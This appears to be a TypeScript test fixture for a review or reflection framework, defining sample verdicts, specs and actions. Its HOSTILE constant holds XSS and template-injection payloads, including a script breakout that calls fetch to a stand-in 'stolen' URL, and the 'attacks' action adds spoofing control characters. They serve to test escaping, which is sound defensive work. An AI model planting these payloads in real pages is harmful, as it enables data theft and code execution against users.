import { z } from 'zod';
import type { ReflectionSpec } from '../../src';
import { defineAction } from '../../src/worker';
import { RELEASE_NOTES, verdictsWith } from './release-notes';

export const VERDICTS = verdictsWith({
  score: 0.7,
  reason: 'Concrete, but nobody learns how to upgrade.',
  issues: ['How to upgrade is missing'],
});

/** Waits after each version. */
export const NOTES: ReflectionSpec = { ...RELEASE_NOTES, review: { when: 'every_iteration', timeout: '2d' } };

/** What would do harm if it were markup. */
export const HOSTILE = [
  '</textarea></pre></style></script><script>document.title = "taken"; fetch("https://example.com/stolen")</script>',
  '<img src=https://example.com/a.png onerror="document.title = 1"><iframe src="javascript:alert(1)"></iframe>',
  '{{ constructor.constructor("return 1")() }} ${process.exit()} <%= 1 %> $& $1 &lt;b&gt; <!-- ]]> -->',
  '<form action=https://example.com><button autofocus onfocus=alert(1)>send</button></form>',
].join('\n');

/** A large text with that. */
export const attacks = defineAction({
  name: 'attacks',
  description: 'Writes what would be harmful in a page.',
  input: z.unknown(),
  run: (_input, { iteration }) =>
    `${HOSTILE}\n\u202egnp.exe\u0000\u001b[31m\n${`version ${iteration} <b>words</b>. `.repeat(9_000)}`,
});
export const counts = defineAction({
  name: 'counts',
  description: 'Gives its iteration.',
  input: z.unknown(),
  run: (_input, { iteration }) => ({ name: 'Robin', iteration }),
});
/** Waits after each version, asks no model, and never passes. */
export const COUNTS: ReflectionSpec = {
  name: 'counts',
  task: 'Count.',
  generator: { action: 'counts' },
  evaluator: { type: 'schema', schema: { type: 'object', required: ['missing'] } },
  review: { when: 'every_iteration' },
  maxIterations: 2,
};
